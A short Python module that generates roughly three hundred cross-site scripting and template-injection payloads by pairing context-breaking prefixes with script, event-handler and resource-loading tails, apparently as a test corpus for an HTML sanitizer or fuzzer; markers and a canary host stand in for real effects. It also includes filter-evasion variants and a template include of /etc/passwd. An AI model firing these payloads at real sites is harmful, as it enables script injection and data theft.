"""Three hundred ways to run a script, load something or break a page: each way out of a place where words stand, with
each thing that one might do next. `%N%` is the number of the script, so that one that runs can be found.
"""

from __future__ import annotations

import itertools

CANARY = "https://canary.invalid"
OUT = (
    "", '">', "'>", '" ', "' ", "</title>", "</textarea></select>", "</script>", "</style>", "-->", "]]>", "</svg>",
    "\\u003e", "\u202e", "\u2028", "`", "${", "{{",
)  # fmt: skip
"""Ways out of: text, both quotes, an attribute without leaving its tag, elements of raw text, comments, templates."""
THEN = (
    "<script>window.ran=%N%</script>",
    "<script src=https://canary.invalid/%N%></script>",
    "<img src=x onerror=window.ran=%N%>",
    "<img src=https://canary.invalid/%N%>",
    "<svg/onload=window.ran=%N%>",
    "<svg><animate onbegin=window.ran=%N% attributeName=x>",
    "<iframe srcdoc='<script>parent.ran=%N%</script>'>",
    "<details open ontoggle=window.ran=%N%>",
    "<input autofocus onfocus=window.ran=%N%>",
    "<link rel=stylesheet href=https://canary.invalid/%N%>",
    "<style>@import '//canary.invalid/%N%'</style>",
    "<meta http-equiv=refresh content='0;url=https://canary.invalid/%N%'>",
    "<base href=//canary.invalid/%N%/>",
    "<form action=//canary.invalid/%N%><button autofocus onfocus=window.ran=%N%>",
    "<div hx-get=/account hx-trigger=load hx-on:load=window.ran=%N%>",
    "onmouseover=alert(%N%) style=animation-name:x",
    "<math><mi xlink:href='javascript:window.ran=%N%'>x",
)
ALONE = (
    "javascript:window.ran=%N%",
    "JaVaScRiPt:alert(%N%)",
    "java\tscript:alert(%N%)",
    "data:text/html,<script>alert(%N%)</script>",
    "vbscript:msgbox(%N%)",
    "//canary.invalid/%N%",
    "\x01javascript:alert(%N%)",
    "https://canary.invalid/%N%\"onclick='alert(%N%)'",
    "{{constructor.constructor('window.ran=%N%')()}}",
    "{% include '/etc/passwd' %}",
    "<%= window.ran=%N% %>",
    "&lt;script&gt;window.ran=%N%",
    "%3Cscript%3Ewindow.ran=%N%%3C/script%3E",
    "＜script＞window.ran=%N%＜/script＞",
    "<scr<script>ipt>window.ran=%N%</script>",
    "<sCrIpT/x>window.ran=%N%</ScRiPt >",
    "<<script>window.ran=%N%//<</script>",
    "<img\x0csrc=x\x0conerror=window.ran=%N%>",
)


def scripts() -> list[str]:
    made = [out + then for out, then in itertools.product(OUT, THEN)] + list(ALONE)
    return [text.replace("%N%", str(number)) for number, text in enumerate(made)]
